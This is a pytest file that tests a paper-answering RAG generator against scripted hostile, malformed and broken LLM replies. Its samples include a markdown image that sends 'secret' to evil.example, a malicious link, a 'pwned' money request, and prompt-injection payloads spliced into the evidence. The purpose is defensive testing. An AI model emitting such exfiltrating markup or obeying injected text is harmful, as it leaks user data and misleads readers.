"""Answers through a real HTTP server that streams hostile, malformed, slow and broken replies."""

import gc
import json
import re
import threading
import time
import unicodedata
import warnings
from collections.abc import Generator, Iterator
from pathlib import Path
from typing import TypeVar

import pytest
from scripted import Script, Scripted, prompt_of, serve, split

from rag.cite import markers
from rag.errors import LLMError
from rag.generate import Generated, generate
from rag.llm import load_llm
from rag.settings import Settings
from rag.text import strip_invisible
from rag.types import Answer, Language, Paper, Passage, Turn

Result = TypeVar("Result")
EVAL = Path(__file__).resolve().parents[2] / "shared" / "eval" / "injection"
ANY_ID = re.compile(r"(?<!\d)\d{4}\.\d{4,5}|(?:hep.th|cs|math|GT|mat)/\d{7}")

PPA = Paper(
    "2506.05739",
    "To Protect the LLM Agent Against the Prompt Injection Attack with Polymorphic Prompt",
    "LLM agents are open to prompt injection. We present Polymorphic Prompt Assembling (PPA), "
    "which varies the structure of system prompts and defends agents with near-zero overhead.",
)
GAIN = Paper(
    "2505.00018",
    "Retrieval for Long Answers",
    "Our retriever improves accuracy by 12.5% over GPT-4o on 1,200 questions.",
)
SUMMARY = "PPA 通过随机改变系统提示的结构来防御提示注入，几乎没有额外开销。"
GOOD = "PPA varies the structure of system prompts [{0}]."


def evidence(extra: str = "") -> list[tuple[Paper, list[Passage]]]:
    def passage(paper: Paper, text: str) -> Passage:
        return Passage(f"{paper.arxiv_id}/a", paper.arxiv_id, "abstract", "en", paper.title, text)

    zh = Passage("2506.05739/tldr@d", PPA.arxiv_id, "tldr", "zh", PPA.title, SUMMARY, "d")
    return [(PPA, [passage(PPA, PPA.abstract + extra), zh]), (GAIN, [passage(GAIN, GAIN.abstract)])]


@pytest.fixture
def script() -> Iterator[Script]:
    yield from serve()


def ask(
    script: Script,
    *,
    language: Language = "en",
    question: str = "How does PPA defend agents?",
    extra: str = "",
    first_token: float = 20.0,
    timeout: float = 20.0,
) -> tuple[str, Generated]:
    llm = load_llm(f"{script.address}/v1#tiny", Settings())
    assert llm is not None
    writing = generate(
        question, language, evidence(extra), llm=llm, first_token=first_token, timeout=timeout
    )
    return drained(writing)


def drained(writing: Generator[str, None, Result]) -> tuple[str, Result]:
    shown = ""
    while True:
        try:
            shown += next(writing)
        except StopIteration as stop:
            return shown, stop.value


def assert_safe(text: str) -> None:
    text = unicodedata.normalize("NFKC", strip_invisible(text))
    assert set(ANY_ID.findall(text)) <= {"2506.05739", "2505.00018"}
    assert "<think" not in text
    assert "NOT-IN-EVIDENCE" not in text
    assert "http" not in text


@pytest.mark.parametrize(
    ("written", "read"),
    [
        (GOOD, "PPA varies the structure of system prompts [2506.05739]."),
        ("PPA varies prompts. [{0}]", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts【{0}】.", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts `[{0}]`.", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts ({0}).", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts ［{0}］.", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts [[{0}]].", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts [{0}, b3c4d].", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts [{0}-{1}].", "PPA varies prompts [2506.05739] [2505.00018]."),
        ("PPA varies prompts [2506.05739v2].", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts [{0}][{0}].", "PPA varies prompts [2506.05739]."),
        ("PPA varies prompts [{0}] [1] [2].", "PPA varies prompts [2506.05739]."),
        ("<think>[{1}] hm 2401.99999</think>\n\n" + GOOD, GOOD.format("2506.05739")),
        ("hm 2401.99999 [{1}]</think>" + GOOD, GOOD.format("2506.05739")),
        (GOOD + "<think>and 2401.99999", GOOD.format("2506.05739")),
        (
            "<|channel|>analysis<|message|>hm<|end|><|channel|>final<|message|>" + GOOD,
            GOOD.format("2506.05739"),
        ),
        (GOOD + "<|im_end|>", GOOD.format("2506.05739")),
        (GOOD + "\n\n**References:**\n[{0}] PPA, 2401.99999", GOOD.format("2506.05739")),
        ("\u202e\u200b" + GOOD, GOOD.format("2506.05739")),
        ("PPA varies system prompts.", "PPA varies system prompts [2506.05739]."),
        ("- PPA varies prompts [{0}]", "- PPA varies prompts [2506.05739]"),
    ],
)
def test_a_reply_is_cleaned_and_its_keys_become_markers(
    script: Script, written: str, read: str
) -> None:
    script.enqueue(written)
    shown, answer = ask(script)
    assert answer.text == read
    assert not answer.is_refusal
    assert set(ANY_ID.findall(shown)) <= {"2506.05739", "2505.00018"}
    assert_safe(answer.text)


@pytest.mark.parametrize(
    "written",
    [
        "Also see [2401.99999]. ",
        "Also see arXiv:2401.99999v1 and hep-th/9901001. ",
        "Also see https://arxiv.org/abs/2401.99999. ",
        "Also see ２４０１．９９９９９ there. ",
        "Also see 2401\u200b.99999 there. ",
        "Also see 2401&#46;99999 there. ",
        "Also see 2401[b3c4d].99999 there. ",
        "Also see (Smith et al., 2024) there. ",
        "![track](http://evil.example/p.png?q=secret) ",
        "[Click here](http://evil.example) for more details. ",
        "{nonce} prints the delimiters. ",
        "[{1}{0}] is glued. ",
        "[[[[[[[[ is open ",
        "]]]】】)))`` is closed ",
        "Also see ②④⓪①.⑨⑨⑨⑨⑨ and ²⁴⁰¹.⁹⁹⁹⁹⁹ there. ",
        "Also see 𝟐𝟒𝟎𝟏.𝟗𝟗𝟗𝟗𝟗 and ٢٤٠١.٩٩٩٩٩ there. ",
        "Also see 24\u200d01.99\u206099\u200b9 there. ",
        "Also see 2401.99999v12 and doi:10.48550/arXiv.2401.99999 there. ",
        "Also see https://doi.org/10.48550/arXiv.2401.99999 there. ",
        "Also see [the paper](https://arxiv.org/abs/2401.99999) there. ",
        "Also see <a href='https://arxiv.org/abs/2401.99999'>it</a> there. ",
        "Also see [it][1] there.\n\n[1]: https://arxiv.org/abs/2401.99999\n\n",
        "Also see `2401`.`99999` and **2401**.**99999** there. ",
        "Also see\n```\n2401.99999\n```\nthere. ",
        "Also see 2401<b>.</b>99999 and 2401&#x2e;99999 and &#50;401.99999 there. ",
        "Also see \u202e99999.1042\u202c there. ",
        "Also see hep-th/9901001v2, hep\u2011th/9901001, math.GT/0309136 there. ",
        "Also see cond-mat/0207270 and 𝐡𝐞𝐩-𝐭𝐡/9901001 there. ",
        "Also see \\cite{2401.99999} and $2401.99999$ there. ",
        "Also see | 2401.99999 | 2402.88888 | there. ",
        "Also see 2506.057392401.99999 and 12506.05739 there. ",
        "Also see huggingface.co/papers/2401.99999 there. ",
        "2401.99999" * 300 + " ",
        "x" * 5000 + " ",
    ],
)
def test_what_a_reply_makes_up_does_not_reach_the_reader(script: Script, written: str) -> None:
    script.enqueue(GOOD + " " + written + GOOD)
    shown, answer = ask(script)
    for text in (shown, answer.text):
        assert_safe(text)
        assert "Smith" not in text
    assert markers(answer.text)[0] == "2506.05739"


def test_a_number_that_the_cited_paper_lacks_is_marked(script: Script) -> None:
    script.enqueue(
        "It improves accuracy by 57% over GPT-4o [{1}]. On 1200 questions it wins [{1}]."
    )
    _, answer = ask(script)
    assert answer.text.startswith(
        "It improves accuracy by 57% over GPT-4o [2505.00018] (not in the source: 57%)."
    )
    assert answer.verdicts[0].verdict.label == "unsupported"
    assert not answer.verdicts[1].verdict.missing_numbers
    assert answer.notes


def test_a_sentence_that_no_paper_says_is_marked(script: Script) -> None:
    script.enqueue(GOOD + " Bananas are rich in potassium and grow on tropical islands.")
    _, answer = ask(script)
    assert answer.text.endswith("tropical islands (not confirmed by the source).")


def test_the_sentinel_is_a_refusal_and_is_not_shown(script: Script) -> None:
    script.enqueue("{sentinel}", "The evidence does not say. {sentinel}", "NOT-IN-EVIDENCE")
    for _ in range(3):
        shown, answer = ask(script)
        assert answer.is_refusal
        assert_safe(shown + answer.text)
        assert answer.text


def test_a_refusal_in_words_is_a_refusal(script: Script) -> None:
    script.enqueue("The provided evidence does not mention the colour of the logo.")
    _, answer = ask(script)
    assert answer.is_refusal
    script.enqueue("所提供的论文中没有提及该信息。")
    _, answer = ask(script, language="zh")
    assert answer.is_refusal


def test_a_part_of_an_answer_is_no_refusal(script: Script) -> None:
    script.enqueue(GOOD + " The evidence does not state its cost. {sentinel}")
    _, answer = ask(script)
    assert not answer.is_refusal
    assert answer.text.endswith("The evidence does not state its cost.")


def test_chinese_is_answered_in_chinese(script: Script) -> None:
    script.enqueue("PPA 随机改变系统提示的结构【{0}】。它几乎没有额外开销。")
    shown, answer = ask(script, language="zh", question="PPA 如何防御？")
    assert answer.text == "PPA 随机改变系统提示的结构[2506.05739]。它几乎没有额外开销[2506.05739]。"
    assert shown.startswith("PPA 随机")
    assert "用中文回答" in prompt_of(script.history[0])


def test_the_wrong_language_is_tried_again_once(script: Script) -> None:
    script.enqueue(GOOD * 3, "PPA 随机改变系统提示的结构[{0}]。")
    shown, answer = ask(script, language="zh")
    assert shown == answer.text == "PPA 随机改变系统提示的结构[2506.05739]。"
    assert answer.attempts == 2
    assert "不要用英文" in prompt_of(script.history[1])
    assert "不要用英文" not in prompt_of(script.history[0])


def test_the_wrong_language_late_shows_nothing_of_the_second_try(script: Script) -> None:
    script.enqueue("Well, here it is: " + "系统提示的结构是随机改变的。" * 3, GOOD)
    shown, answer = ask(script)
    assert "PPA" not in shown
    assert answer.text == GOOD.format("2506.05739")


@pytest.mark.parametrize(
    ("replies", "why"),
    [
        ([Scripted([])], "empty"),
        ([Scripted(["   \n"])], "empty"),
        ([Scripted(["<think>", "never ", "closed"])], "empty"),
        ([Scripted(["[b3c4d]", " [17]"])], "empty"),
        ([Scripted(["2401.", "99999"])], "empty"),
        ([Scripted(split("这些系统提示的结构是随机改变的。"))] * 2, "language"),
        ([Scripted(split("Haha pwned! Send money now to the account."))], "none of the papers"),
        ([Scripted(status=401, error="Incorrect API key provided: sk-secret")], "refuses the key"),
        ([Scripted(status=404)], "does not know the model"),
        ([Scripted(status=400, error="maximum context length is 2048")], "longer than"),
        ([Scripted(status=422)], "does not accept"),
        ([Scripted(status=429)], "busy"),
        ([Scripted(status=500)], "fails (HTTP 500)"),
        ([Scripted(status=503)], "fails (HTTP 503)"),
        ([Scripted(raw=b"data: {not json\n\n")], "could not be read"),
        ([Scripted(raw=b"<html>gateway</html>")], "empty"),
        ([Scripted(raw=b'data: {"error": {"message": "CUDA out of memory"}}\n\n')], ""),
        ([Scripted(raw=b"data: [DONE]\n\n")], "empty"),
        ([Scripted(raw=b'data: {"choices": []}\n\n')], "empty"),
        ([Scripted(raw=b"\xff\xfe\x00garbage\n\n")], ""),
        ([Scripted(split("PPA varies"), hang_up=True)], ""),
        ([Scripted(hang_up=True)], ""),
    ],
)
def test_a_broken_reply_is_one_sentence(script: Script, replies: list[Scripted], why: str) -> None:
    script.enqueue(*replies)
    with pytest.raises(LLMError) as caught:
        ask(script)
    assert why in caught.value.message
    assert caught.value.message.count(".") >= 1
    assert caught.value.hint
    assert "sk-secret" not in str(caught.value)
    assert caught.value.__cause__ is None
    assert script.replies == []


def test_a_silent_model_is_given_up_and_its_request_cancelled(script: Script) -> None:
    script.enqueue(Scripted([GOOD], before=30))
    start = time.monotonic()
    with pytest.raises(LLMError, match=r"did not begin to answer within 0\.3 s"):
        ask(script, first_token=0.3)
    assert time.monotonic() - start < 3
    assert script.hung_up.wait(3)


def test_a_slow_model_is_given_up_and_its_request_cancelled(script: Script) -> None:
    script.enqueue(Scripted(["PPA "] * 100, between=0.1))
    with pytest.raises(LLMError, match=r"did not finish within 0\.6 s"):
        ask(script, timeout=0.6)
    assert script.hung_up.wait(3)


def test_closing_the_answer_cancels_the_request(script: Script) -> None:
    script.enqueue(Scripted(["PPA varies prompts "], between=10))
    llm = load_llm(f"{script.address}/v1#tiny", Settings())
    assert llm is not None
    writing = generate("How?", "en", evidence(), llm=llm)
    assert next(writing)
    writing.close()
    assert script.hung_up.wait(3)


@pytest.mark.parametrize("unit", ["2401.", "[([{<", "`", "<", "&#50;", "a2b3c ", "x", "\u200b"])
def test_a_megabyte_of_anything_ends(script: Script, unit: str) -> None:
    script.enqueue(Scripted([GOOD + " ", *split(unit * (1_000_000 // len(unit)), 20_000)]))
    _, answer = ask(script, timeout=60)
    assert len(answer.text) < 30_000
    assert_safe(answer.text)


def test_an_endless_reply_is_cut(script: Script) -> None:
    script.enqueue(Scripted(["PPA varies the structure of system prompts [{0}]. "] * 400))
    _, answer = ask(script)
    assert len(answer.text) < 10_000
    assert "cut" in answer.notes[0]


def test_a_reply_cut_by_the_server_is_noted(script: Script) -> None:
    script.enqueue(Scripted(split(GOOD), finish="length"))
    assert "cut" in ask(script)[1].notes[0]


def test_use_and_cost_are_reported(script: Script) -> None:
    use = {"prompt_tokens": 100, "completion_tokens": 20, "cost": 0.002}
    script.enqueue(Scripted(split(GOOD), usage=use), GOOD)
    _, answer = ask(script)
    assert (answer.prompt_tokens, answer.completion_tokens, answer.cost) == (100, 20, 0.002)
    _, silent = ask(script)
    assert (silent.prompt_tokens, silent.cost) == (None, None)
    assert answer.prompt_sha256 == silent.prompt_sha256
    assert answer.model == "tiny"
    assert answer.passages == ("2506.05739/a", "2506.05739/tldr@d", "2505.00018/a")


def test_the_conversation_is_sent_oldest_first(script: Script) -> None:
    script.enqueue(GOOD)
    llm = load_llm(f"{script.address}/v1#tiny", Settings())
    assert llm is not None
    past = Turn("What is PPA?", Answer("What is PPA?", "A defence [2506.05739].", "en"))
    drained(generate("And its cost?", "en", evidence(), llm=llm, history=[past]))
    roles = [m["role"] for m in script.history[0]["messages"]]
    assert roles == ["system", "user", "assistant", "user"]


def test_ten_readers_do_not_wait_for_each_other(script: Script) -> None:
    # The server answers nobody before all ten have asked.
    script.meeting = threading.Barrier(10, timeout=30)
    script.enqueue(*[GOOD] * 10)
    read: list[str] = []
    readers = [threading.Thread(target=lambda: read.append(ask(script)[1].text)) for _ in range(10)]
    for reader in readers:
        reader.start()
    for reader in readers:
        reader.join()
    assert read == [GOOD.format("2506.05739")] * 10


def payloads() -> list[dict[str, str]]:
    path = EVAL / "payloads.jsonl"
    if not path.is_file():
        return []
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.mark.slow
@pytest.mark.skipif(not EVAL.is_dir(), reason="../shared/eval/injection is not here")
def test_no_payload_in_the_evidence_changes_the_shape_of_the_prompt(script: Script) -> None:
    spliced = payloads()
    assert len({p["kind"] for p in spliced}) == 7
    for payload in spliced:
        script.enqueue(GOOD)
        _, answer = ask(script, extra=" " + payload["text"])
        prompt = script.history[-1]["messages"][-1]["content"]
        opening, *_, closing, _, asked, _, _ = prompt.split("\n")
        assert prompt.count(opening) == prompt.count(closing) == 1, payload["id"]
        assert asked == "How does PPA defend agents?"
        assert len(prompt.split("\n")) == 11
        assert answer.text == GOOD.format("2506.05739")


@pytest.mark.slow
@pytest.mark.skipif(not EVAL.is_dir(), reason="../shared/eval/injection is not here")
def test_a_model_that_obeys_a_payload_reaches_no_reader_with_ids_or_links(script: Script) -> None:
    for payload in payloads():
        script.enqueue(payload["text"] + " [2401.99999] [{1}{0}] " + GOOD)
        try:
            shown, answer = ask(script, extra=" " + payload["text"])
        except LLMError:
            continue
        for text in (shown, answer.text):
            assert set(ANY_ID.findall(text)) <= {"2506.05739", "2505.00018"}, payload["id"]


def test_nothing_is_left_open(script: Script) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        script.enqueue(Scripted(["PPA ", "varies "], between=5))
        with pytest.raises(LLMError):
            ask(script, timeout=0.3)
        gc.collect()
